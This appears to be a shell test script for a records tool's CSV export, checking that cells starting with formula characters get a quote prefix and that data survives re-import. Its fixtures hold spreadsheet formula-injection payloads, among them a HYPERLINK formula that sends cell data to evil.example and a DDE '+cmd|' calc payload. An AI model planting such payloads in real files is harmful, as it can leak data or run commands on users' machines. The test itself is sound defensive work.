#!/bin/sh
# ctl-csv-guard.sh - ncenctl export guards cells a spreadsheet would run
# as formulas (=, +, -, @, TAB, CR at the start): a quote goes in front,
# a plain negative number is left as it is; import of such an export
# gives back the original values (export, import elsewhere, dump: the
# same records); --raw turns the guard off on both sides.  (Stored text
# never starts with TAB or CR, values being trimmed: check_csv covers
# those.)

# shellcheck source=tests/lib.sh
. "$(dirname "$0")/lib.sh"

unset NCEN_HOME NCEN_KEYFILE
F=$top_builddir/forms
[ -d "$F" ] || F=$top_srcdir/forms
X=$T/x

ok "init" ncenctl -d "$X" init --forms "$F"
cat >"$T/in.dump" <<'DUMP'
ncen-dump 1
record case 1 1 1795770000 alice
field number FR-CDG01-2026-000001
field date 2026-11-05
field office FRCDG01
field country FR
field direction IMP
field narrative =HYPERLINK("http://evil.example/?"&A1,"Click for the photos")
field place @SUM(1+1)
record person 1 1 1795770100 alice
field family_name +cmd|' /C calc'!A0
field given_names -2+3
field aliases 'already quoted
field aliases =second value
field remarks ''=both
record seizure 1 1 1795770200 alice
field case 1
field commodity DRUG
field quantity -12.500
field unit KGM
field description -x
DUMP
ok "load records whose values start like formulas" ncenctl -d "$X" load "$T/in.dump"

ok "export the case" ncenctl -d "$X" export -o "$T/case.csv" case
has_in() { grep -qF -- "$2" "$1"; }
has_in "$T/case.csv" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for the photos\"\")\""
tap_result $? "the narrative's formula gets a quote in front"
has_in "$T/case.csv" ",'@SUM(1+1),"
tap_result $? "so does a place starting with @"
ok "export the person" ncenctl -d "$X" export -o "$T/person.csv" person
has_in "$T/person.csv" ",'+cmd|' /C calc'!A0,"
tap_result $? "a name starting with +"
has_in "$T/person.csv" ",'-2+3,"
tap_result $? "a name starting with -"
has_in "$T/person.csv" ",''already quoted;=second value,"
tap_result $? "a cell starting with a quote gets one more (only the cell's start counts)"
has_in "$T/person.csv" ",'''=both"
tap_result $? "a quote then a formula character"
ok "export the seizure" ncenctl -d "$X" export -o "$T/seizure.csv" seizure
has_in "$T/seizure.csv" ",-12.500,"
tap_result $? "a negative number is left as it is"
has_in "$T/seizure.csv" ",'-x,"
tap_result $? "text starting with - is guarded"

# The round trip: import the guarded exports elsewhere, compare dumps.
Y=$T/y
ok "init another directory" ncenctl -d "$Y" init --forms "$F"
ok "import the guarded case" ncenctl -d "$Y" import case "$T/case.csv"
ok "the person" ncenctl -d "$Y" import person "$T/person.csv"
ok "the seizure" ncenctl -d "$Y" import seizure "$T/seizure.csv"
ncenctl -d "$X" dump case person seizure | grep -v -e '^record ' -e '^end ' >"$T/x.dump"
ncenctl -d "$Y" dump case person seizure | grep -v -e '^record ' -e '^end ' >"$T/y.dump"
ok "the imported values are the originals" cmp "$T/x.dump" "$T/y.dump"
[ -s "$T/y.dump" ] && grep -qF "field narrative =HYPERLINK(" "$T/y.dump" &&
	grep -qF "field aliases 'already quoted" "$T/y.dump" &&
	grep -qF "field remarks ''=both" "$T/y.dump"
tap_result $? "the formula, the quoted alias and the quotes are back as stored"

# --raw: values exactly as stored, for programs; import --raw takes them so.
ok "export --raw" ncenctl -d "$X" export --raw -o "$T/raw.csv" person
has_in "$T/raw.csv" ",+cmd|' /C calc'!A0,"
tap_result $? "--raw writes the value as stored"
! has_in "$T/raw.csv" "'+cmd"
tap_result $? "with no quote in front"
Z=$T/z
ncenctl -d "$Z" init --forms "$F" >/dev/null 2>&1
ok "import --raw of a raw export" ncenctl -d "$Z" import --raw person "$T/raw.csv"
ncenctl -d "$X" dump person | grep -v -e '^record ' -e '^end ' >"$T/x.dump"
ncenctl -d "$Z" dump person | grep -v -e '^record ' -e '^end ' >"$T/z.dump"
ok "gives back the originals too" cmp "$T/x.dump" "$T/z.dump"

finish
